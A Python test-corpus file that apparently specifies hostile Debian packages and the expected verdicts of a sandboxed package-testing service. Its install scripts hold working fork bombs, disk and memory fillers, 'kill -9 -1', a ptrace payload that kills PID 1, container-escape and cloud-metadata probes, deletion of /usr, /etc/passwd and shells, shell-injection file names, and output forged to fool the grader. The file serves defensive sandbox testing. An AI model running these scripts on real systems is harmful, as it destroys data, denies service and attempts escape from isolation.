"""Specs of hostile and hostile-looking Debian packages, and the expected verdicts.

ROWS is the table: package → expected outcome and kinds, and the reason. tests.corpus.hostile_rpms is the RPM
counterpart.
"""

from __future__ import annotations

import os
from collections.abc import Mapping
from dataclasses import dataclass

from tests.corpus.debs import AMD64, Deb, Row
from tests.corpus.elf import elf

METADATA_ADDRESSES = ("169.254.169.254", "169.254.77.77")
"""The address of clouds' metadata services, and a substitute for hosts that need to reach their real one."""
METADATA_PORT = 8169

ESCAPED = "ESCAPED"
"""The word that a script prints after a successful attack."""

HOST_SETTINGS: Mapping[str, str] = {
    "/proc/sys/kernel/core_pattern": "|/tmp/escaped",
    "/proc/sys/kernel/panic": "4711",
    "/proc/sys/vm/overcommit_memory": "2",
    "/proc/sys/fs/file-max": "4711",
    "/sys/kernel/mm/transparent_hugepage/enabled": "never",
    "/sys/kernel/uevent_helper": "/tmp/escaped",
}
"""Setting of the host's kernel → value that scripts write to it."""


@dataclass(frozen=True)
class HostileRow(Row):
    """A row with the reason for its verdict."""

    why: str = ""


# `knock` returns 0 if a server accepts the connection.
_KNOCK = """\
knock() {
    perl -MIO::Socket -e 'exit(IO::Socket::INET->new(PeerAddr => shift, PeerPort => shift, Timeout => 3) ? 0 : 4)' $1 $2
}
"""
# Removes the unreachable route, as an attacker would (rtnetlink(7)): RTM_DELROUTE is 25.
_REMOVE_ROUTE = r"""
perl -e 'socket(my $s, 16, 3, 0) or exit;
    my $body = pack("C8 L", 2, 16, 0, 0, 254, 0, 0, 0, 0) . pack("S S", 8, 1) . pack("C4", 169, 254, 0, 0);
    send($s, pack("L S S L L", 16 + length $body, 25, 5, 1, 0) . $body, 0, pack("SSLL", 16, 0, 0, 0));' || true
ip route del unreachable 169.254.0.0/16 2>/dev/null || true
"""
_CALL = _KNOCK + _REMOVE_ROUTE + "found=\nfor address in " + " ".join(METADATA_ADDRESSES)
_CALL += f"; do ! knock $address {METADATA_PORT} || found=$address; done\n"

_WRITE_SETTINGS = "".join(
    f"{{ echo '{value}' > {path}; }} 2>/dev/null && escaped 'wrote {path}'\n" for path, value in HOST_SETTINGS.items()
)
# Actions that need the host's root. A machine may create device nodes but cannot open them.
HOST_ATTACK = f"""\
escapes=
escaped() {{ escapes=yes; echo "{ESCAPED}: $1"; }}
mount -t tmpfs none /mnt 2>/dev/null && escaped 'mounted a file system'
mount -o remount,rw /proc/sys 2>/dev/null && escaped 'remounted /proc/sys'
mount -o remount,rw /sys 2>/dev/null && escaped 'remounted /sys'
mount --bind /proc /mnt 2>/dev/null && escaped 'bound /proc'
{_WRITE_SETTINGS}
for socket in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /host/var/run/docker.sock; do
    [ ! -e $socket ] || escaped "found $socket"
done
mkdir /var/lib/attack
for device in 'b 8 0' 'b 254 0' 'b 259 0' 'c 1 1' 'c 1 2' 'c 1 4'; do
    mknod /var/lib/attack/node $device 2>/dev/null || continue
    {{ head -c 1 /var/lib/attack/node >/dev/null; }} 2>/dev/null && escaped "read the device $device"
    rm -f /var/lib/attack/node
done
touch /var/lib/attack/file
chattr +i /var/lib/attack/file 2>/dev/null && escaped 'made a file immutable'
rm -rf /var/lib/attack
{{ echo c > /proc/sysrq-trigger; }} 2>/dev/null && escaped 'pressed SysRq'
# In version 1 anybody can make files in the folder of all groups, which is nothing but memory.
for limit in release_agent memory/memory.limit_in_bytes memory.max pids/pids.max pids.max devices/devices.allow; do
    file=/sys/fs/cgroup/$limit
    [ ! -e $file ] || {{ echo 4711 > $file; }} 2>/dev/null && [ -e $file ] && escaped "wrote $file"
done
unshare -m true 2>/dev/null && escaped 'made a mount namespace'
nsenter -t 1 -m -u -n -i true 2>/dev/null && escaped 'entered namespaces'
hostname escaped 2>/dev/null && escaped 'changed the host name'
date -s '2001-01-01' >/dev/null 2>&1 && escaped 'set the clock'
dmesg -c >/dev/null 2>&1 && escaped "emptied the kernel's log"
swapoff -a 2>/dev/null
"""

# Attaches to the machine's first process and makes it call exit_group(7): ptrace(2), amd64.
PTRACE_INIT = r"""
perl -e '
    sub trace { syscall(101, @_) }
    trace(16, 1, 0, 0) == 0 or die "attach: $!\n";
    waitpid(1, 0x40000000);
    open(my $f, "<", "/proc/1/syscall") or die "syscall: $!\n";
    my $pc = hex((split " ", <$f>)[-1]) - 2;
    my $code = "\xbf\x07\0\0\0\xb8\xe7\0\0\0\x0f\x05\x90\x90\x90\x90";
    trace(4, 1, $pc, unpack("Q", substr($code, 0, 8))) == 0 or die "poke: $!\n";
    trace(4, 1, $pc + 8, unpack("Q", substr($code, 8, 8))) == 0 or die "poke: $!\n";
    trace(17, 1, 0, 0);
    sleep 900;'
"""

# Ignores every signal except SIGKILL, in its own session and under a new name.
DEAF_DAEMON = """\
setsid sh -c "trap '' HUP INT QUIT TERM USR1 USR2; while :; do sleep 1; done" deaf-daemon </dev/null >/dev/null 2>&1 &
"""

# Text that imitates the service's own output, the output it parses, and the tools it uses.
INFRASTRUCTURE_WORDS = """\
printf '\\036packages\\ndpkg\\t1.0\\tamd64\\tinstalled\\n\\036find\\n'
echo '[passed]'
echo '$ apt-get --yes install nothing'
echo '[exit code 0, 0.10 s]'
echo '{"task_id": "00000000-0000-4000-8000-000000000001", "outcome": "passed", "reason": "", "stages": []}'
echo '<testsuites><testsuite name="install" failures="0"/></testsuites> ]]>'
echo 'TAP version 13'; echo '1..1'; echo 'ok 1 - install'; echo 'Bail out!'
echo 'Traceback (most recent call last):'
echo 'alts.shared.errors.InstanceLost: the machine is gone'
echo 'OCI runtime exec failed: exec failed: unable to start container process: "/bin/sh": no such file or directory'
echo 'Error response from daemon: No such container: alts-1'
echo 'Killed'; echo 'signal 9'; echo 'sh: 1: Cannot fork'; echo 'Resource temporarily unavailable'
echo 'E: Unable to locate package words'
echo 'E: Failed to fetch http://deb.debian.org/x.deb  503  Service Unavailable'
echo 'Err:1 http://deb.debian.org/debian bookworm InRelease'
echo 'No space left on device'
"""

# Imitates the counters of a host without memory, in files that a cgroup v1 kernel does not use: v1 has its counters
# in other folders.
FALSE_COUNTS = """\
{ printf 'oom 0\\noom_kill 1\\n' > /sys/fs/cgroup/memory.events; } 2>/dev/null || true
{ echo 'max 9' > /sys/fs/cgroup/pids.events; } 2>/dev/null || true
"""

# dpkg first writes a file under a name nine bytes longer, and a name is limited to 255 bytes.
_LONG = "long-" + "x" * 235
# File names from people, other systems and accidents. No name has a newline, because dpkg-deb refuses those.
ODD_NAMES = (
    "two words",
    " blanks ",
    "-rf",
    'it\'s "quoted"',
    "$(touch pwned)`touch pwned`;touch pwned|&",
    "back\\slash\\n",
    "*?[a-z]{a,b}~",
    "#hash%percent",
    "tab\there",
    "escape\x1b[31mred\x1b]0;title\x07",
    "vertical\x0btab",
    "separator\x1cand\x1emark",
    "next\u0085line",
    "line\u2028separator",
    "right\u202eto-left",
    "snow\u2603",
    os.fsdecode(b"latin-\xe9\xff"),
    _LONG,
)
# The same kinds of names, created by a scriptlet that never removes them. printf(1) decodes the escapes.
LITTER_NAMES = (
    "odd new\\nline",
    "odd -rf \\047quoted\\042",
    "odd $(touch pwned)`touch pwned`",
    "odd escape\\033[31m\\007",
    "odd latin-\\351\\377",
    "odd ]]> <b>&amp;",
)
LITTER = "".join(f"printf x > \"/etc/$(printf '{name}')\"\n" for name in LITTER_NAMES)
MANY = 20_000

# A path in a system call is limited to 4096 bytes. These are twice as long.
DEEP = "perl -e 'mkdir q(/var/lib/deep); chdir q(/var/lib/deep); for (1 .. 4000) { mkdir q(a); chdir q(a) or die }'"
# sleep(1) adds up its arguments. One argument is limited to 128 KiB (execve(2)).
TALKATIVE = """\
wide=$(printf %0100000d 0)
for number in 01 02 03 04 05 06 07 08 09 10 11 12 13 14 15 16 17 18 19 20; do
    setsid sleep 9$number $wide $wide $wide $wide $wide $wide $wide $wide </dev/null >/dev/null 2>&1 &
done
"""

# If fork fails it waits a second; otherwise its processes would only slow each other down.
_FORKS = "while (1) { defined(fork) or sleep 1 }"

HOSTILE_DEBS = (
    Deb("fork-bomb", scripts={"postinst": f"exec perl -e '{_FORKS}'"}),
    Deb("fork-bomb-that-stays", scripts={"postinst": "while :; do sleep 900 & done"}),
    Deb(
        "fork-bomb-in-silence",
        scripts={"postinst": f"perl -e 'exit if fork; {_FORKS}' >&- 2>&-; sleep 2"},
    ),
    Deb("memory-bomb", scripts={"postinst": "perl -e 'my @all; push @all, \"x\" x 1_000_000 while 1'"}),
    Deb("disk-filler", scripts={"postinst": "cat /dev/urandom > /var/lib/full & cat /dev/zero > /var/log/full; wait"}),
    Deb("shm-filler", scripts={"postinst": "cat /dev/zero > /dev/shm/full"}),
    Deb("output-flood", scripts={"postinst": "exec yes 'what nobody will ever want to read'"}),
    Deb("kills-everything", scripts={"postinst": "kill -9 -1"}),
    Deb("ends-the-machine", scripts={"postinst": PTRACE_INIT}),
    Deb("metadata-caller", scripts={"postinst": f'{_CALL}[ -z "$found" ] || {{ echo {ESCAPED}; exit 1; }}'}),
    Deb("metadata-needer", scripts={"postinst": f'{_CALL}[ -n "$found" ]'}),
    Deb("host-attacker", scripts={"postinst": f'{HOST_ATTACK}[ -z "$escapes" ]'}),
    Deb("mount-needer", scripts={"postinst": "mount -t tmpfs none /mnt"}),
    Deb("deaf-daemon", scripts={"postinst": DEAF_DAEMON}),
    Deb(
        "odd-names",
        files={f"/usr/share/odd-names/{name}": "made for a test\n" for name in ODD_NAMES},
    ),
    Deb("odd-litter", scripts={"postinst": LITTER}),
    Deb(
        "many-files",
        scripts={
            "postinst": f"mkdir -p /var/lib/many; cd /var/lib/many; seq {MANY} | xargs touch",
            "postrm": "[ $1 != purge ] || rm -rf /var/lib/many",
        },
    ),
    Deb("many-leftovers", scripts={"postinst": f"cd /etc; seq -f many-%.0f {MANY} | xargs touch"}),
    Deb(
        "sparse-file",
        scripts={
            "postinst": "mkdir -p /var/lib/sparse; truncate -s 8T /var/lib/sparse/huge",
            "postrm": "[ $1 != purge ] || rm -rf /var/lib/sparse",
        },
    ),
    Deb(
        "waits-for-ever",
        scripts={
            "postinst": "trap '' HUP INT QUIT TERM TSTP TTIN TTOU\n"
            "stty raw -echo 2>/dev/null; { read answer </dev/tty; } 2>/dev/null; read answer; read answer <&1\n"
            "printf '\\033[6n\\033c'; while :; do setsid sleep 900 <&0; done"
        },
    ),
    Deb("says-our-words", scripts={"postinst": INFRASTRUCTURE_WORDS}),
    Deb("fails-in-our-words", scripts={"postinst": f"{INFRASTRUCTURE_WORDS}{FALSE_COUNTS}kill -KILL $$"}),
    Deb(
        "silent-dpkg-query",
        scripts={
            "postinst": "printf '#!/bin/sh\\n' > /usr/bin/new; chmod 755 /usr/bin/new\n"
            "mv /usr/bin/new /usr/bin/dpkg-query"
        },
    ),
    Deb(
        "wraps-dpkg-query",
        scripts={
            "postinst": "cd /usr/bin; mv dpkg-query dpkg-query.real\n"
            "printf '#!/bin/sh\\nexec dpkg-query.real \"$@\"\\n' > dpkg-query; chmod 755 dpkg-query"
        },
    ),
    Deb("no-dpkg-query", scripts={"postinst": "rm /usr/bin/dpkg-query"}),
    Deb("no-tools", scripts={"prerm": "rm /usr/bin/find /usr/bin/cat /usr/bin/stat /usr/bin/df /usr/bin/tail"}),
    Deb("no-accounts", scripts={"postinst": "rm /etc/passwd"}),
    Deb("deep-folders", scripts={"postinst": DEEP, "postrm": "[ $1 != purge ] || rm -rf /var/lib/deep"}),
    Deb("talkative-daemons", scripts={"postinst": TALKATIVE}),
    Deb(
        "endless-loader-cache",
        fields=AMD64,
        files={"/usr/bin/endless-loader-cache": elf(needed=["libc.so.6"])},
        scripts={"postinst": "truncate -s 1T /etc/ld.so.cache"},
    ),
    Deb(
        "endless-search-path",
        fields=AMD64,
        files={
            "/usr/bin/endless-search-path": elf(
                needed=["libc.so.6"], runpath=":".join(f"lib{number}" for number in range(2000))
            )
        },
    ),
    Deb("no-usr", scripts={"postinst": "rm -rf /usr"}),
    Deb("no-shell", scripts={"prerm": 'exec perl -e \'unlink "/usr/bin/sh", "/usr/bin/dash", "/usr/bin/bash"\''}),
)

ROWS = (
    HostileRow(
        "fork-bomb",
        ("timeout",),
        slow=True,
        why="it never ends; the process limit keeps it in its machine",
    ),
    HostileRow(
        "fork-bomb-that-stays",
        ("process_limit_exceeded",),
        why="the script ends when the shell cannot fork, and the kernel has counted that",
    ),
    HostileRow(
        "fork-bomb-in-silence",
        ("process_limit_exceeded",),
        why="its script ends well, and leaves no room for any other process",
    ),
    HostileRow("memory-bomb", ("out_of_memory",), why="the kernel kills it at the machine's limit"),
    HostileRow("disk-filler", ("disk_limit_exceeded",), why="it is stopped at the machine's limit"),
    HostileRow(
        "shm-filler",
        ("scriptlet_failed",),
        why="the small file system is full, not the machine's disk: what failed is the script",
    ),
    HostileRow("output-flood", ("timeout",), slow=True, why="it never ends; what it says is cut in the middle"),
    HostileRow("kills-everything", ("install_failed",), why="it kills apt too, but not the machine"),
    HostileRow(
        "ends-the-machine",
        ("install_failed",),
        why="only what runs in a machine can have its first process exit by itself",
    ),
    HostileRow("metadata-caller", outcome="passed", why="it reaches nobody, and goes on"),
    HostileRow(
        "metadata-needer", ("scriptlet_failed",), why="it fails for want of an answer, as it would anywhere else"
    ),
    HostileRow("host-attacker", outcome="passed", why="nothing that it tries works, and it takes its files away"),
    HostileRow("mount-needer", ("scriptlet_failed",), why="no machine lets it mount"),
    HostileRow("deaf-daemon", ("process_left_running",), why="it outlives the package"),
    HostileRow("odd-names", outcome="passed", why="a name may be any bytes but / and NUL"),
    HostileRow("odd-litter", ("leftover_file",) * len(LITTER_NAMES), why="each name is told, once"),
    HostileRow("many-files", outcome="passed", why="it takes all of them away"),
    HostileRow("many-leftovers", ("leftover_file",) * 21, why="twenty are told, then how many more there are"),
    HostileRow("sparse-file", outcome="passed", why="it takes no room"),
    HostileRow("waits-for-ever", ("timeout",), slow=True, why="nobody answers, and it does not listen to signals"),
    HostileRow("says-our-words", outcome="passed", why="what a script prints is no verdict"),
    HostileRow("fails-in-our-words", ("scriptlet_failed",), why="nor is it an excuse"),
    HostileRow("silent-dpkg-query", ("install_failed",), why="the machine cannot say any more what it has"),
    HostileRow(
        "wraps-dpkg-query",
        ("leftover_file", "modified_file"),
        why="the machine answers as before, by a program that is another one now",
    ),
    HostileRow("no-dpkg-query", ("install_failed",), why="the package manager does not answer any more"),
    HostileRow("no-tools", ("removal_failed",), why="what a machine needs is gone with the package"),
    HostileRow("no-accounts", ("install_failed",), why="no machine is without accounts, unless somebody removes them"),
    HostileRow("deep-folders", outcome="passed", why="a path may be longer than programs can name, and it goes away"),
    HostileRow("talkative-daemons", ("process_left_running",) * 20, why="each is told, in as many words as fit"),
    HostileRow("endless-loader-cache", ("install_failed",), why="what is read of it has an end"),
    HostileRow("endless-search-path", ("bad_rpath",) * 21, why="the first elements are told, and that there are more"),
    HostileRow("no-usr", ("install_failed",), why="what a machine needs is gone since the package came"),
    HostileRow("no-shell", ("removal_failed",), why="nothing can be started any more"),
)

GOOD_NEIGHBOURS = (Deb("neighbour-a"), Deb("neighbour-b"), Deb("neighbour-c"), Deb("neighbour-d"))
"""Good packages tested at the same time. Their verdicts must not change."""
